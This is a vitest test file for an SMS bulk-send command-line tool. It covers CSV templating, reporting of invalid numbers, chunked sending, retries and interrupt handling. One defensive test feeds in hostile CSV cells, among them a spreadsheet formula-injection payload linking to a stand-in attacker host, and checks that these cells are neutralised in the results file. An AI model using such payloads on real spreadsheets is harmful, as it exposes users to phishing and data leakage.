import { chmod, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  ACCOUNT,
  mobiles,
  platformEnv,
  readResults,
  runCli,
  spawnCli,
  waitFor,
  usePlatform,
} from './test-utils/harness.js';

const platform = usePlatform({ keywords: ['赌博'] });

const run = (args: string[]) =>
  runCli(args, { env: platformEnv(platform.emulator.url), cwd: platform.dir.path });

async function csvFile(name: string, text: string): Promise<string> {
  const path = join(platform.dir.path, name);
  await writeFile(path, text);
  return path;
}

/** Every number the platform accepted, with the taskId it got. */
function platformTasks(): Map<string, string[]> {
  const byMobile = new Map<string, string[]>();
  for (const message of platform.emulator.sent()) {
    for (const mobile of message.mobiles)
      byMobile.set(mobile, [...(byMobile.get(mobile) ?? []), message.taskId]);
  }
  return byMobile;
}

describe('sms send --csv', () => {
  it('results: cells a spreadsheet would run as formulas start with a quote; an existing file becomes 0600', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x","click")',
      '@SUM(1+1)',
      '-2+3',
      '\t=1+1',
      '\r=1',
    ];
    const csv = await csvFile(
      'hostile.csv',
      `mobile\n13800000001\n${hostile.map((cell) => `"${cell.replace(/"/g, '""')}"`).join('\n')}\n`,
    );
    const results = join(platform.dir.path, 'hostile-results.csv');
    await writeFile(results, 'old results\n');
    await chmod(results, 0o644);
    const result = await run([
      'send',
      '--csv',
      csv,
      '--content',
      '【Acme】hi',
      '--skip-invalid',
      '--results',
      results,
    ]);
    expect(result.code).toBe(0);
    const text = await readFile(results, 'utf8');
    expect(text).not.toContain('old results');
    const rows = await readResults(results);
    const invalid = rows.filter((row) => row.status === 'invalid').map((row) => row.mobile);
    // The CSV reader trims cells: a leading tab or CR is gone, the formula behind it is not.
    expect(invalid.sort()).toEqual(hostile.map((cell) => `'${cell.trim()}`).sort());
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.find((row) => row.status === 'sent')?.mobile).toBe('13800000001');
    if (process.platform !== 'win32') expect((await stat(results)).mode & 0o777).toBe(0o600);
  });

  it('fills the template per row, groups identical texts into one request each, and writes the results file', async () => {
    const csv = await csvFile(
      'customers.csv',
      '\uFEFFmobile,name,city\r\n13800000001,Li,Beijing\r\n13800000002,Wang,Shanghai\r\n13800000003,Li,Beijing\r\n"138-0000-0004","Li",Beijing\r\n',
    );
    const results = join(platform.dir.path, 'results.csv');
    const result = await run([
      'send',
      '--csv',
      csv,
      '--content',
      '【Acme】Hi {name} in {city}',
      '--results',
      results,
    ]);
    expect(result.code).toBe(0);
    const sent = platform.emulator.sent();
    expect(sent.map((m) => [m.content, m.mobiles])).toEqual([
      ['【Acme】Hi Li in Beijing', ['13800000001', '13800000003', '13800000004']],
      ['【Acme】Hi Wang in Shanghai', ['13800000002']],
    ]);
    const rows = await readResults(results);
    expect(rows).toHaveLength(4);
    const tasks = platformTasks();
    for (const row of rows) {
      expect(row['status']).toBe('sent');
      expect([row['taskId']]).toEqual(tasks.get(row['mobile']!));
    }
  });

  it('takes the first column when there is no mobile column, and no header at all', async () => {
    const csv = await csvFile('plain.csv', '13800000011\n13800000012\n');
    const result = await run(['send', '--json', '--csv', csv, '--content', '【Acme】hello']);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ ok: true, numbers: 2, sent: 2 });
    expect(platform.emulator.sent()[0]!.mobiles).toEqual(['13800000011', '13800000012']);
  });

  it('takes each row text from --content-column', async () => {
    const csv = await csvFile(
      'texts.csv',
      'phone,text,code\n13800000021,【Acme】code {code},1111\n13800000022,【Acme】code {code},2222\n',
    );
    const result = await run(['send', '--csv', csv, '--content-column', 'text']);
    expect(result.code).toBe(0);
    expect(
      platform.emulator
        .sent()
        .map((m) => m.content)
        .sort(),
    ).toEqual(['【Acme】code 1111', '【Acme】code 2222']);
  });

  it('exits 2 on a template field the CSV lacks and on invalid numbers, sending nothing', async () => {
    const csv = await csvFile('bad.csv', 'mobile,name\n13800000031,Li\n12345,Bad\n');
    const missing = await run(['send', '--csv', csv, '--content', '【Acme】Hi {nickname}']);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('nickname');
    const invalid = await run(['send', '--csv', csv, '--content', '【Acme】Hi {name}']);
    expect(invalid.code).toBe(2);
    // The file's line (12345 is on line 3), not the data row's number.
    expect(invalid.stderr).toContain('12345 (line 3)');
    expect(platform.emulator.requests()).toHaveLength(0);
  });

  it('names the file line of an invalid number after a quoted two-line field (it said line 2)', async () => {
    const csv = await csvFile(
      'multiline.csv',
      'mobile,note\r\n13800000032,"two\r\nlines"\r\n12345,x\r\n',
    );
    const result = await run(['send', '--csv', csv, '--content', '【Acme】Hi {note}']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('12345 (line 4)');
    expect(platform.emulator.requests()).toHaveLength(0);
  });

  describe('invalid numbers after a quoted two-line field (CSV record 3 is file line 4)', () => {
    // The issue's file: `12345` is the third record but sits on the file's fourth line.
    const text = 'mobile,name\n13800138000,"two\nlines"\n12345,bob\n';
    const stop =
      '1 invalid number(s): a real send would stop here (--skip-invalid sends to the others).\n';

    /** Every line ends with a newline and none is printed twice. */
    function eachLineOnce(stream: string): string[] {
      expect(stream.endsWith('\n')).toBe(true);
      const lines = stream.slice(0, -1).split('\n');
      expect(lines.filter((line, i) => lines.indexOf(line) !== i)).toEqual([]);
      return lines;
    }

    it('dry-run names the file line on screen; each message once, on its own line (human)', async () => {
      const csv = await csvFile('issue-22.csv', text);
      const result = await run([
        'send',
        '--csv',
        csv,
        '--content',
        '【测试】hi {name}',
        '--dry-run',
      ]);
      expect(result.code).toBe(2);
      const lines = eachLineOnce(result.stdout);
      expect(lines).toContain('numbers    1, 1 invalid');
      expect(lines).toContain('invalid    12345 (line 4)');
      expect(result.stdout).not.toContain('line 3');
      expect(result.stderr).toBe(stop);
      expect(platform.emulator.requests()).toHaveLength(0);
    });

    it('dry-run --json: one document on stdout (ok false, exit 2, the line), the note once on stderr', async () => {
      const csv = await csvFile('issue-22-json.csv', text);
      const result = await run([
        'send',
        '--json',
        '--csv',
        csv,
        '--content',
        '【测试】hi {name}',
        '--dry-run',
      ]);
      expect(result.code).toBe(2);
      expect(eachLineOnce(result.stdout)).toHaveLength(1);
      expect(JSON.parse(result.stdout)).toMatchObject({
        ok: false,
        exitCode: 2,
        dryRun: true,
        numbers: 1,
        invalid: [{ line: 4, value: '12345' }],
      });
      expect(result.stderr).toBe(stop);
    });

    it('many invalid numbers: the first few with their lines and a count, in the dry run and the refusal', async () => {
      const csv = await csvFile(
        'issue-22-many.csv',
        `${text}1,a\n"2",b\n,c\n"3\n3",d\n13900139000,e\n`,
      );
      const shown = '12345 (line 4), 1 (line 5), 2 (line 6) and 2 more';
      const dry = await run(['send', '--csv', csv, '--content', '【测试】hi {name}', '--dry-run']);
      expect(dry.code).toBe(2);
      expect(eachLineOnce(dry.stdout)).toContain(`invalid    ${shown}`);
      expect(dry.stderr).toBe(stop.replace('1 invalid', '5 invalid'));

      const refused = await run(['send', '--csv', csv, '--content', '【测试】hi {name}']);
      expect(refused.code).toBe(2);
      expect(refused.stdout).toBe('');
      expect(eachLineOnce(refused.stderr)).toEqual([
        `error [USAGE] invalid mobile number(s): ${shown} (--skip-invalid sends to the others)`,
      ]);
      const json = await run(['send', '--json', '--csv', csv, '--content', '【测试】hi {name}']);
      expect(json.code).toBe(2);
      expect(json.stderr).toBe('');
      expect(eachLineOnce(json.stdout)).toHaveLength(1);
      expect(JSON.parse(json.stdout).error.message).toContain(shown);

      // The hidden ones are where a person would look next: blank (line 7) and a two-line value (8-9).
      const skipped = await run([
        'send',
        '--csv',
        csv,
        '--content',
        '【测试】hi {name}',
        '--dry-run',
        '--skip-invalid',
        '--json',
      ]);
      expect(skipped.code).toBe(0);
      expect(skipped.stderr).toBe('');
      expect(JSON.parse(skipped.stdout)).toMatchObject({
        ok: true,
        numbers: 2,
        invalid: [
          { line: 4, value: '12345' },
          { line: 5, value: '1' },
          { line: 6, value: '2' },
          { line: 7, value: '' },
          { line: 8, value: '3\n3' },
        ],
      });
      expect(platform.emulator.requests()).toHaveLength(0);
    });
  });

  it('exits 2 naming the file it cannot read, and the line of a quote never closed', async () => {
    const missing = await run(['send', '--csv', 'nope.csv', '--content', '【Acme】hi']);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/cannot read .*nope\.csv: ENOENT/);
    const directory = await run(['send', '--csv', '.', '--content', '【Acme】hi']);
    expect(directory.code).toBe(2);
    expect(directory.stderr).toMatch(/cannot read .*: EISDIR/);
    const csv = await csvFile('unclosed.csv', 'mobile\n13800000033\n"13800000034\n13800000035\n');
    const unclosed = await run(['send', '--csv', csv, '--content', '【Acme】hi']);
    expect(unclosed.code).toBe(2);
    expect(unclosed.stderr).toContain('CSV line 3: a quoted field is not closed');
    expect(platform.emulator.requests()).toHaveLength(0);
  });

  it('--skip-invalid sends to the others and lists the invalid ones in the results', async () => {
    const csv = await csvFile('mixed.csv', 'mobile\n13800000041\n12345\n13800000042\n');
    const results = join(platform.dir.path, 'mixed-results.csv');
    const result = await run([
      'send',
      '--csv',
      csv,
      '--content',
      '【Acme】hi',
      '--skip-invalid',
      '--results',
      results,
    ]);
    expect(result.code).toBe(0);
    const rows = await readResults(results);
    expect(rows.map((r) => [r['mobile'], r['status']])).toEqual([
      ['12345', 'invalid'],
      ['13800000041', 'sent'],
      ['13800000042', 'sent'],
    ]);
  });

  it('dry-run shows numbers, segments and points per text, without a request', async () => {
    const csv = await csvFile(
      'dry.csv',
      `mobile,name\n${mobiles(5)
        .map((m, i) => `${m},${i < 3 ? 'Li' : 'Wang'}`)
        .join('\n')}\n`,
    );
    const result = await run([
      'send',
      '--json',
      '--dry-run',
      '--csv',
      csv,
      '--content',
      `【Acme】{name} ${'x'.repeat(70)}`,
      '--chunk-size',
      '2',
    ]);
    expect(result.code).toBe(0);
    const doc = JSON.parse(result.stdout);
    expect(doc).toMatchObject({ dryRun: true, numbers: 5, requests: 3, points: 10 });
    expect(
      doc.groups.map((g: { numbers: number; segments: number }) => [g.numbers, g.segments]),
    ).toEqual([
      [3, 2],
      [2, 2],
    ]);
    const human = await run(['send', '--dry-run', '--csv', csv, '--content', '【Acme】{name}']);
    expect(human.stdout).toMatch(/points\s+5/);
    const withInvalid = await csvFile('dry-invalid.csv', 'mobile\n13800000051\n12345\n');
    const flagged = await run([
      'send',
      '--dry-run',
      '--csv',
      withInvalid,
      '--content',
      '【Acme】hi',
    ]);
    expect(flagged.code).toBe(2);
    expect(flagged.stdout).toMatch(/numbers\s+1, 1 invalid\ninvalid\s+12345 \(line 3\)\n/);
    const skipped = await run([
      'send',
      '--dry-run',
      '--skip-invalid',
      '--csv',
      withInvalid,
      '--content',
      '【Acme】hi',
    ]);
    expect(skipped.code).toBe(0);
    expect(platform.emulator.requests()).toHaveLength(0);
  });

  it('chunks by --chunk-size, and after a refusal sends no more: the rest is not_sent (exit 3)', async () => {
    const numbers = mobiles(10, 13800000100);
    const csv = await csvFile('chunks.csv', `mobile\n${numbers.join('\n')}\n`);
    // Enough balance for two chunks of 3, not for the third.
    platform.emulator.setAccount({ account: ACCOUNT.account, balance: 7 });
    const results = join(platform.dir.path, 'chunks-results.csv');
    const result = await run([
      'send',
      '--csv',
      csv,
      '--content',
      '【Acme】hi',
      '--chunk-size',
      '3',
      '--concurrency',
      '1',
      '--results',
      results,
    ]);
    expect(result.code).toBe(3);
    expect(result.stdout).toContain('INSUFFICIENT_BALANCE');
    const rows = await readResults(results);
    expect(rows.map((r) => r['status'])).toEqual([
      'sent',
      'sent',
      'sent',
      'sent',
      'sent',
      'sent',
      'failed',
      'failed',
      'failed',
      'not_sent',
    ]);
    expect(rows[6]).toMatchObject({ errorCode: 'INSUFFICIENT_BALANCE', chunk: '3' });
    expect(platform.emulator.sent().map((m) => m.mobiles.length)).toEqual([3, 3]);
  });

  it('marks a chunk whose connection was reset after handling as unknown (exit 5)', async () => {
    const csv = await csvFile('reset.csv', `mobile\n${mobiles(4, 13800000200).join('\n')}\n`);
    platform.emulator.setFault({ type: 'reset', action: 'send', times: 1 });
    const results = join(platform.dir.path, 'reset-results.csv');
    const result = await run([
      'send',
      '--csv',
      csv,
      '--content',
      '【Acme】hi',
      '--chunk-size',
      '2',
      '--concurrency',
      '1',
      '--results',
      results,
    ]);
    expect(result.code).toBe(5);
    const rows = await readResults(results);
    expect(rows.map((r) => r['status'])).toEqual(['unknown', 'unknown', 'not_sent', 'not_sent']);
    // It was in fact sent: "unknown" is the honest answer, "failed" would invite a double send.
    expect(platform.emulator.sent()[0]!.mobiles).toEqual(rows.slice(0, 2).map((r) => r['mobile']));
  });
});

describe('sms send --retry results.csv', () => {
  // A templated batch whose second row has a quoted field over two lines: file lines 2, 3, 5, 6, 7.
  const customers =
    'mobile,name,order\n13800000601,Li,A1\n13800000602,"Wang\nJr",B2\n13800000603,Zhao,C3\n13800000604,Qian,D4\n13800000605,Sun,E5\n';
  const template = '【Acme】{name}: order {order} shipped';
  const text = (name: string, order: string) => `【Acme】${name}: order ${order} shipped`;

  /** A batch of one number per request that runs out of balance after two. */
  async function failedBatch(name: string) {
    const csv = await csvFile(`${name}.csv`, customers);
    platform.emulator.setAccount({ account: ACCOUNT.account, balance: 2 });
    const results = join(platform.dir.path, `${name}-results.csv`);
    const first = await run([
      'send',
      '--csv',
      csv,
      '--content',
      template,
      '--chunk-size',
      '1',
      '--concurrency',
      '1',
      '--results',
      results,
    ]);
    expect(first.code).toBe(3);
    return { csv, results };
  }

  it('sends the failed and not_sent rows again with their own CSV fields ({name}, {order}: the awk recipe kept only the results columns)', async () => {
    const { results } = await failedBatch('retry');
    const rows = await readResults(results);
    expect(rows.map((r) => [r['mobile'], r['status'], r['line'], r['source']])).toEqual([
      ['13800000601', 'sent', '2', 'retry.csv'],
      ['13800000602', 'sent', '3', 'retry.csv'],
      ['13800000603', 'failed', '5', 'retry.csv'],
      ['13800000604', 'not_sent', '6', 'retry.csv'],
      ['13800000605', 'not_sent', '7', 'retry.csv'],
    ]);
    platform.emulator.setAccount({ account: ACCOUNT.account, balance: 100 });
    const before = platform.emulator.sent().length;
    const results2 = join(platform.dir.path, 'retry-results-2.csv');
    const again = await run([
      'send',
      '--retry',
      results,
      '--content',
      template,
      '--results',
      results2,
    ]);
    expect(again.code, again.stderr).toBe(0);
    const resent = platform.emulator
      .sent()
      .slice(before)
      .flatMap((m) => m.mobiles.map((mobile) => [mobile, m.content]));
    expect(resent.sort()).toEqual([
      ['13800000603', text('Zhao', 'C3')],
      ['13800000604', text('Qian', 'D4')],
      ['13800000605', text('Sun', 'E5')],
    ]);
    const rows2 = await readResults(results2);
    expect(rows2.map((r) => [r['mobile'], r['status'], r['line'], r['source']]).sort()).toEqual([
      ['13800000603', 'sent', '5', 'retry.csv'],
      ['13800000604', 'sent', '6', 'retry.csv'],
      ['13800000605', 'sent', '7', 'retry.csv'],
    ]);

    // Nothing left: no request, exit 0.
    const sentSoFar = platform.emulator.sent().length;
    const done = await run(['send', '--retry', results2, '--content', template]);
    expect(done.code).toBe(0);
    expect(done.stdout).toContain('nothing to send again');
    expect(platform.emulator.sent()).toHaveLength(sentSoFar);
  });

  it('leaves unknown numbers out and says so once', async () => {
    const csv = await csvFile('retry-unknown.csv', customers);
    platform.emulator.setFault({ type: 'reset', action: 'send', times: 1 });
    const results = join(platform.dir.path, 'retry-unknown-results.csv');
    const first = await run([
      'send',
      '--csv',
      csv,
      '--content',
      template,
      '--chunk-size',
      '2',
      '--concurrency',
      '1',
      '--results',
      results,
    ]);
    expect(first.code).toBe(5);
    const before = platform.emulator.sent().length;
    const again = await run(['send', '--json', '--retry', results, '--content', template]);
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr.match(/unknown \(may have been sent\): left out/g)).toHaveLength(1);
    expect(again.stderr).toContain('1 number in');
    // Each row has its own text, so one request per row: the first (13800000601) was reset.
    expect(JSON.parse(again.stdout)).toMatchObject({ ok: true, numbers: 4, sent: 4 });
    const resent = platform.emulator
      .sent()
      .slice(before)
      .flatMap((m) => m.mobiles);
    expect(resent.sort()).toEqual(['13800000602', '13800000603', '13800000604', '13800000605']);
  });

  it('refuses a source CSV that changed since the send, and a --results that would overwrite the record', async () => {
    const { csv, results } = await failedBatch('retry-changed');
    platform.emulator.setAccount({ account: ACCOUNT.account, balance: 100 });
    const before = platform.emulator.requests().length;
    const same = await run([
      'send',
      '--retry',
      results,
      '--content',
      template,
      '--results',
      results,
    ]);
    expect(same.code).toBe(2);
    expect(same.stderr).toContain('is the file --retry reads');
    // A row removed above them: line 5 now holds 13800000604.
    await writeFile(csv, customers.replace('13800000601,Li,A1\n', ''));
    const changed = await run(['send', '--retry', results, '--content', template]);
    expect(changed.code).toBe(2);
    expect(changed.stderr).toContain('lists 13800000603 on line 5 of');
    expect(changed.stderr).toContain('the CSV changed since the send');
    // The original, given with --csv (moved elsewhere), is taken instead.
    const moved = await csvFile('retry-moved.csv', customers);
    const fromMoved = await run([
      'send',
      '--retry',
      results,
      '--csv',
      moved,
      '--content',
      template,
    ]);
    expect(fromMoved.code, fromMoved.stderr).toBe(0);
    expect(platform.emulator.requests().length - before).toBe(3);
    const resent = platform.emulator
      .sent()
      .slice(-3)
      .flatMap((m) => m.mobiles);
    expect(resent.sort()).toEqual(['13800000603', '13800000604', '13800000605']);

    // A results file of an older sms names no CSV: "{name}" must not go out as written.
    const old = await csvFile('retry-old-results.csv', 'mobile,status\n13800000603,failed\n');
    const unfilled = await run(['send', '--retry', old, '--content', template]);
    expect(unfilled.code).toBe(2);
    expect(unfilled.stderr).toContain('{name}, {order} cannot be filled');
    expect(platform.emulator.requests().length - before).toBe(3);
  });

  it('a --to batch: sends the same literal text to the numbers that did not get it', async () => {
    platform.emulator.setAccount({ account: ACCOUNT.account, balance: 1 });
    const results = join(platform.dir.path, 'retry-to-results.csv');
    const first = await run([
      'send',
      '--to',
      '13800000701,13800000702,13800000703',
      '--content',
      '【Acme】{not a template}',
      '--chunk-size',
      '1',
      '--concurrency',
      '1',
      '--results',
      results,
    ]);
    expect(first.code).toBe(3);
    platform.emulator.setAccount({ account: ACCOUNT.account, balance: 100 });
    const before = platform.emulator.sent().length;
    const again = await run(['send', '--retry', results, '--content', '【Acme】{not a template}']);
    expect(again.code, again.stderr).toBe(0);
    expect(
      platform.emulator
        .sent()
        .slice(before)
        .map((m) => [m.mobiles, m.content]),
    ).toEqual([[['13800000702', '13800000703'], '【Acme】{not a template}']]);
  });
});

describe('Ctrl-C during a batch', () => {
  const numbers = mobiles(12, 13800000300);

  async function startSlowBatch(name: string, latencyMs = 400) {
    const csv = await csvFile(`${name}.csv`, `mobile\n${numbers.join('\n')}\n`);
    const results = join(platform.dir.path, `${name}-results.csv`);
    platform.emulator.setFault({ type: 'latency', ms: latencyMs, action: 'send' });
    const cli = spawnCli(
      [
        'send',
        '--csv',
        csv,
        '--content',
        '【Acme】hi',
        '--chunk-size',
        '2',
        '--concurrency',
        '1',
        '--results',
        results,
      ],
      {
        env: platformEnv(platform.emulator.url),
        cwd: platform.dir.path,
      },
    );
    // Interrupt once the first chunk is on disk (the second is then in flight).
    await waitFor(
      async () => (await readFile(results, 'utf8').catch(() => '')).includes(',sent,'),
      'the first chunk in the results',
    );
    return { cli, results };
  }

  /** Every number once; `sent` rows match what the platform recorded, `not_sent` rows never reached it. */
  async function checkConsistent(results: string) {
    const rows = await readResults(results);
    expect(rows.map((r) => r['mobile']).sort()).toEqual([...numbers].sort());
    const tasks = platformTasks();
    for (const row of rows) {
      if (row['status'] === 'sent') expect(tasks.get(row['mobile']!)).toEqual([row['taskId']]);
      if (row['status'] === 'not_sent') expect(tasks.has(row['mobile']!)).toBe(false);
    }
    return rows;
  }

  it('first Ctrl-C: finishes the chunk in flight, lists the rest as not_sent, exits 130', async () => {
    const { cli, results } = await startSlowBatch('sigint');
    cli.child.kill('SIGINT');
    const result = await cli.done;
    expect(result.code).toBe(130);
    expect(result.stderr).toContain('Interrupted');
    const rows = await checkConsistent(results);
    const statuses = rows.map((r) => r['status']);
    expect(statuses).not.toContain('unknown');
    expect(statuses.filter((s) => s === 'sent').length).toBeGreaterThanOrEqual(4);
    expect(statuses).toContain('not_sent');
    expect(platform.emulator.sent().length * 2).toBe(statuses.filter((s) => s === 'sent').length);
  });

  it('second Ctrl-C: quits at once, the chunk in flight is unknown', async () => {
    const { cli, results } = await startSlowBatch('sigint2', 2500);
    cli.child.kill('SIGINT');
    await waitFor(() => cli.stderr().includes('Interrupted'), 'the first interrupt to be seen');
    const second = Date.now();
    cli.child.kill('SIGINT');
    const result = await cli.done;
    expect(result.code).toBe(130);
    // It did not wait for the 2.5 s request it abandoned.
    expect(Date.now() - second).toBeLessThan(1500);
    const rows = await checkConsistent(results);
    const unknown = rows.filter((r) => r['status'] === 'unknown');
    expect(unknown).toHaveLength(2);
    expect(unknown[0]).toMatchObject({ errorCode: 'INTERRUPTED' });
    // Whether the abandoned request got through is exactly what nobody knows: no assertion on it.
  });
});
